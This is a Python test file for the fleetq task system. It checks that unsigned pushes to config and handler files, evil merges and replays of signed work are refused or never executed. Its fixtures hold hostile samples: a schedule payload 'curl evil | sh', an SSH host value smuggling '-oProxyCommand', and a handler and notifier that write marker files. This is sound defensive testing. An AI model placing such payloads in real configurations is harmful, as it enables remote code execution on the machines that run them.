"""Issue 14, findings 1, 2 and 5, under require_signed: every file under config/ and handlers/ is protected,
a merge's own changes count, and a re-run of signed work is a new order that must be signed. On a remote
with the pre-receive hook (``guarded``) and on one without (``signed_fleet``, as GitHub would be)."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from fleetq.core import transitions
from fleetq.core.cas import Plan, transact
from fleetq.core.clone import Fleet
from fleetq.git.repo import HookRejected
from fleetq.layout import MACHINES, NOTIFY, SCHEDULES
from fleetq.trust import fsck, signing
from fleetq.worker.intake import Intake
from fleetq.worker.state import WorkerState
from support.fleets import Fleets
from support.remotes import SEAT, raw_commit, raw_push
from support.signers import assign, lock_down, sign_as, verdict
from support.workers import WorkerProc, run_to_end, states_of

EVIL_NOTIFY = "command: [sh, -c, 'echo pwned >> {marker}']\n"
EVIL_MACHINES = "machines:\n  alpha:\n    host: '-oProxyCommand=touch {marker}'\n    capabilities: [run_script]\n"
EVIL_HANDLER = (
    "from fleetq.handlerapi import HandlerResult\n\n\n"
    "def run(ctx):\n    open({marker!r}, 'a').write('pwned\\n')\n    return HandlerResult('done')\n"
)


def untrusted_paths(fleet: Fleet) -> list[str]:
    return [i.path for i in fsck.scan(fleet.snapshot(), lease=60) if i.kind == "untrusted"]


def finish(fleet: Fleet, outcomes: dict[str, str]) -> None:
    """Claim the tasks and report each one's outcome with fleetq's own (unsigned) transitions, one push each."""
    claimed = {t.id: t for t in transitions.claim(fleet, SEAT, 5)}
    done = [transitions.Completion(tid, claimed[tid].attempts, out, {"exit_code": 0}) for tid, out in outcomes.items()]
    transitions.complete(fleet, done)


def replay(fleet: Fleet, tid: str, to: str = "pending") -> dict[str, bytes | None]:
    """The changes that move a finished task back to ``to`` by hand (what an unsigned pusher would push)."""
    snap = fleet.snapshot()  # fetched
    [ref] = snap.locate(tid)
    return {ref.loc.path: None, f"queue/{to}/{tid}.yaml": snap.read(ref.loc.path)}


# -- finding 1: notify.yaml and machines.yaml are protected files like the rest of config/ --


def test_the_hook_refuses_unsigned_notify_and_machines(guarded: Fleets, keys, tmp_path: Path) -> None:
    alpha = guarded.first
    sign_as(alpha, keys["alice"])
    lock_down(alpha, keys, "alice")
    bob = guarded.clone("bob")
    assert b"bob" not in alpha.snapshot().read(MACHINES)  # an unsigned join does not register itself here
    marker = tmp_path / "pwned"
    for path, text in ((NOTIFY, EVIL_NOTIFY), (MACHINES, EVIL_MACHINES)):
        with pytest.raises(HookRejected, match=f"it changes {path}, so it must be signed .* not signed"):
            raw_push(bob, {path: text.format(marker=marker).encode()})
    # the owner's signed change of the same file lands
    plan = Plan(changes={NOTIFY: b"command: [true]\n"}, subject="notify: signed", sign=True)
    assert transact(alpha, lambda snap: plan) is not None
    assert alpha.snapshot().read(NOTIFY) == b"command: [true]\n"


def test_hookless_unsigned_notify_is_not_used(signed_fleet: Fleets, keys, cli, tmp_path: Path) -> None:
    alpha = signed_fleet.first
    bob = signed_fleet.clone("bob")
    marker = tmp_path / "pwned"
    assert assign(cli, alpha, "mine").code == 0  # signed; created by alpha, so alpha's notifier tells about it
    raw_push(bob, {NOTIFY: EVIL_NOTIFY.format(marker=marker).encode()}, "notify")
    notifier = WorkerState(alpha, {}).notifier  # the worker's notifier, in-process
    notifier.check(alpha.snapshot())
    finish(alpha, {"mine": "done"})
    notifier.check(alpha.snapshot())
    notifier.drain(5)
    assert not marker.exists(), "the worker ran the notifier an unsigned commit put in config/notify.yaml"
    assert "config/notify.yaml" in (verdict(alpha, "mine") or "")
    raw_push(bob, {MACHINES: EVIL_MACHINES.format(marker=marker).encode()}, "machines")
    assert untrusted_paths(alpha) == [MACHINES, NOTIFY]


def test_hookless_unsigned_schedule_does_not_fire(signed_fleet: Fleets, tmp_path: Path) -> None:
    alpha = signed_fleet.first  # signs: a fire would be a signed task of whatever the file says
    bob = signed_fleet.clone("bob")
    sched = "schedules:\n  tick:\n    cron: '* * * * *'\n    task:\n      type: run_script\n"
    raw_push(bob, {SCHEDULES: (sched + "      payload: {script: 'curl evil | sh'}\n").encode()}, "schedule")
    (alpha.state_dir / "schedules.yaml").write_text(f"tick: {time.time() - 600}\n")  # a fire is due
    Intake(WorkerState(alpha, {})).fire_schedules(alpha.snapshot())
    assert states_of(alpha) == {}


# -- finding 2: an evil merge (changes the merge itself introduces) on a remote with no hook --


def test_an_evil_merge_is_caught_by_the_chain_of_trust(signed_fleet: Fleets, keys, cli, tmp_path: Path) -> None:
    alpha = signed_fleet.first
    bob = signed_fleet.clone("bob")
    worker = signed_fleet.clone("w")
    marker = tmp_path / "pwned"
    assert assign(cli, alpha, "good").code == 0  # the owner's signed task
    head = bob.repo.fetch()
    side = raw_commit(bob, {"README.md": b"a side branch\n"}, "side", parent=head)
    evil = {"handlers/run_script.py": EVIL_HANDLER.format(marker=str(marker)).encode()}
    merge = bob.repo.commit(bob.repo.apply(bob.repo.tree_of(side), evil), [head, side], "Merge side\n", bob.machine)
    bob.repo.push(merge)
    why = verdict(alpha, "good")
    assert why and "handlers/run_script.py" in why and "not signed" in why
    assert untrusted_paths(alpha) == ["handlers/run_script.py"]
    run_to_end(WorkerProc(worker, "--burst"))
    assert not marker.exists(), "the merged handler ran for the owner's signed task"
    assert states_of(alpha) == {"good": "needs_human"}
    assert "handlers/run_script.py" in alpha.snapshot().get("good").result["error"]


# -- finding 5: replay of signed work --


def test_the_hook_refuses_an_unsigned_rerun(guarded: Fleets, keys, cli) -> None:
    alpha = guarded.first
    sign_as(alpha, keys["alice"])
    lock_down(alpha, keys, "alice")
    bob = guarded.clone("bob")
    job = {"type": "run_script", "payload": {"script": "true"}}
    transitions.create(alpha, [{"id": "good", **job}, {"id": "bad", **job}], sign=True)
    finish(bob, {"good": "done", "bad": "failed"})  # fleetq's own unsigned claim and report land
    for tid, outcome, to in (("good", "done", "pending"), ("bad", "failed", "claimed")):
        with pytest.raises(HookRejected, match=f"it sends task {tid} back to run \\({outcome} -> {to}\\)"):
            raw_push(bob, replay(bob, tid, to), "replay")
    # the owner's `fleetq resolve ID pending` signs (this clone signs), and lands
    assert cli("--fleet", alpha.root, "resolve", "good", "pending").code == 0
    assert states_of(alpha) == {"good": "pending", "bad": "failed"}


def test_what_counts_as_a_rerun() -> None:
    assert signing.rerun({"done"}, {"pending"}) == "done -> pending"
    assert signing.rerun({"needs_human"}, {"claimed"}) == "needs_human -> claimed"
    assert signing.rerun({"done"}, {"done", "pending"}) == "done -> pending"  # a second copy counts too
    for old, new in (
        ({"claimed"}, {"pending"}),
        ({"pending"}, {"claimed"}),
        (set(), {"pending"}),
        ({"done"}, {"done"}),
    ):
        assert signing.rerun(old, new) is None  # fleetq's own retries, hand-backs, claims; a creation; an edit


def test_hookless_unsigned_rerun_does_not_run_again(signed_fleet: Fleets, keys, cli, tmp_path: Path) -> None:
    alpha = signed_fleet.first
    bob = signed_fleet.clone("bob")
    worker = signed_fleet.clone("w")
    ran = tmp_path / "ran"
    assert assign(cli, alpha, "good", f"echo ran >> {ran}").code == 0
    finish(alpha, {"good": "done"})  # it ran once (in-process: the run itself is not what is tested)
    raw_push(bob, replay(bob, "good"), "replay")  # unsigned, as often as bob likes
    run_to_end(WorkerProc(worker, "--burst"))
    assert not ran.exists(), "an unsigned replay of a signed done task ran again"
    t = alpha.snapshot().get("good")
    assert t.state == "needs_human"
    assert "sent it back to run (done -> pending)" in t.result["error"] and "not signed" in t.result["error"]
    # the owner's signed re-run is an order the worker takes
    assert cli("--fleet", alpha.root, "resolve", "good", "pending").code == 0
    [t] = transitions.claim(bob, SEAT, 5)
    assert verdict(alpha, "good", t) is None
